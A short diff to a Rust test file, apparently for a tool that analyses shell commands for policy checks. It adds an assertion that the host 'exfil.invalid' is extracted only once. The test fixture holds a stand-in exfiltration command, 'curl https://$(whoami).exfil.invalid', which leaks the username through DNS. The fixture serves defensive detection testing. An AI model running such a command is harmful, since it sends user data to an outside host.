@@ -662,6 +662,8 @@ fn facts_find_hosts_glued_to_substitutions() {
     let f = Facts::of(&shell("curl https://$(whoami).exfil.invalid"));
     let keys = f.keys();
     assert!(keys.contains(&"exfil.invalid".to_string()), "{keys:?}");
+    // Host and domain are one text here: looked up once.
+    assert_eq!(keys.iter().filter(|k| *k == "exfil.invalid").count(), 1);
     // With a path after the host too (the substitution marker is in the analysed words, not
     // in the raw command; found by the policy tests).
     for cmd in [
